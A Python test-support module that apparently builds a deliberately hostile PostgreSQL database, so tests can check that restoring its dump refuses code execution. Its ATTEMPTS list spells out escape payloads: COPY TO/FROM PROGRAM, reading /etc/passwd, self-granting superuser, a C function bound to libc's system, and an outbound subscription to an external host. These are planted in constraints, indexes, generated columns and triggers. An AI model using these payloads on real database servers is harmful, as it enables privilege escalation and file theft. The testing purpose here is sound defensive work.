"""A database whose dump is hostile: every place where a restore runs code tries to get out.

Each attempt notes in `evil.attempts` how the server answered, so that a test sees both that the code
ran and that it was refused. On the server that is dumped the code is put in place last, and harmless
functions stand there until then.
"""

from pathlib import Path

import psycopg

from support.pg import Postgres

PLACES = ("check", "domain", "generated", "index", "matview")
"""Where a restore of this database runs the archive's code."""

ATTEMPTS = {
    "copy-to-file": "COPY (SELECT 1) TO '{canary}/copied'",
    "copy-to-program": "COPY (SELECT 1) TO PROGRAM 'touch {canary}/program'",
    "copy-from-program": "COPY evil.sink FROM PROGRAM 'touch {canary}/from-program; echo x'",
    "copy-from-file": "COPY evil.sink FROM '/etc/passwd'",
    "lo-export": "DO $do$ DECLARE made oid := pg_catalog.lo_from_bytea(0, 'x');"
    " BEGIN PERFORM pg_catalog.lo_export(made, '{canary}/large'); END $do$",
    "lo-import": "SELECT pg_catalog.lo_import('/etc/passwd')",
    "read-file": "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    "list-folder": "SELECT pg_catalog.pg_ls_dir('/')",
    "superuser": "ALTER ROLE CURRENT_USER SUPERUSER",
    "new-superuser": "CREATE ROLE evil_root SUPERUSER LOGIN",
    "grant-programs": "GRANT pg_execute_server_program TO CURRENT_USER",
    "become-admin": "SET ROLE drbook_admin",
    "dblink": "CREATE EXTENSION dblink",
    "file-fdw": "CREATE EXTENSION file_fdw",
    "postgres-fdw": "CREATE EXTENSION postgres_fdw",
    "c-function": "CREATE FUNCTION evil.sys(cstring) RETURNS int LANGUAGE c AS 'libc.so.6', 'system'",
    "event-trigger": "CREATE EVENT TRIGGER again ON ddl_command_end EXECUTE FUNCTION evil.on_ddl()",
    "subscription": "CREATE SUBSCRIPTION leak CONNECTION 'host=203.0.113.1' PUBLICATION p"
    " WITH (connect = false)",
    "catalog": "UPDATE pg_catalog.pg_authid SET rolsuper = true",
    "slot": "SELECT pg_catalog.pg_create_physical_replication_slot('leak')",
    "reload": "SELECT pg_catalog.pg_reload_conf()",
    "database-settings": "ALTER DATABASE {database} SET search_path = evil, pg_catalog",
    "mark": "COMMENT ON DATABASE {database} IS 'mine'",
}

_SCHEMA = """
CREATE SCHEMA evil;
CREATE TABLE evil.attempts (place text, what text, answer text);
CREATE TABLE evil.sink (line text);
CREATE FUNCTION evil.attempt(place text) RETURNS boolean LANGUAGE plpgsql AS
  $$ BEGIN RETURN true; END $$;
CREATE FUNCTION evil.quiet(place text, n int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
  $$ BEGIN RETURN evil.attempt(place); END $$;
CREATE FUNCTION evil.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS
  $$ BEGIN PERFORM evil.attempt('event-trigger'); END $$;
CREATE DOMAIN evil.small AS int CHECK (evil.quiet('domain', VALUE));
CREATE TABLE public.orders (
  id int PRIMARY KEY CHECK (evil.quiet('check', id)),
  small evil.small,
  made boolean GENERATED ALWAYS AS (evil.quiet('generated', id)) STORED
);
INSERT INTO public.orders (id, small) VALUES (1, 1), (2, 2), (3, 3);
CREATE INDEX odd ON public.orders (evil.quiet('index', id));
CREATE MATERIALIZED VIEW public.summary AS SELECT evil.quiet('matview', 1) AS n;
CREATE VIEW public.looked AS SELECT evil.attempt('view') AS n;
-- Shadows of the server's own functions, for sessions that look here first.
CREATE FUNCTION public.count(int) RETURNS bigint LANGUAGE sql AS 'SELECT 999::bigint';
CREATE FUNCTION public.hash_record_extended(public.orders, int) RETURNS bigint LANGUAGE sql
  AS 'SELECT 0::bigint';
CREATE FUNCTION public.current_database() RETURNS name LANGUAGE sql AS $$ SELECT 'fake'::name $$;
"""


def build(postgres: Postgres, dbname: str, canary: Path, database: str) -> None:
    """Make the database on the server that is dumped. `database` is the name it is restored as."""
    with postgres.connect("postgres") as connection:
        connection.execute(f"CREATE DATABASE {dbname}".encode())
    with postgres.connect(dbname) as connection:
        connection.execute(_SCHEMA.encode())
        connection.execute(_attempting(canary, database).encode())
        connection.execute(
            b"CREATE EVENT TRIGGER lurking ON ddl_command_end EXECUTE FUNCTION evil.on_ddl()"
        )


def _attempting(canary: Path, database: str) -> str:
    tries = "\n".join(
        f"""BEGIN
          EXECUTE $try${text.format(canary=canary, database=database)}$try$;
          INSERT INTO evil.attempts VALUES (place, '{name}', 'done');
        EXCEPTION WHEN OTHERS THEN
          INSERT INTO evil.attempts VALUES (place, '{name}', SQLSTATE);
        END;"""
        for name, text in ATTEMPTS.items()
    )
    return (
        "CREATE OR REPLACE FUNCTION evil.attempt(place text) RETURNS boolean LANGUAGE plpgsql AS"
        f" $body$ BEGIN {tries} RETURN true; END $body$"
    )


def answers(connection: psycopg.Connection) -> dict[str, dict[str, set[str]]]:
    """Place → attempt → how the server answered (an SQLSTATE, or `done`)."""
    found: dict[str, dict[str, set[str]]] = {}
    for place, what, answer in connection.execute("SELECT place, what, answer FROM evil.attempts"):
        found.setdefault(place, {}).setdefault(what, set()).add(answer)
    return found
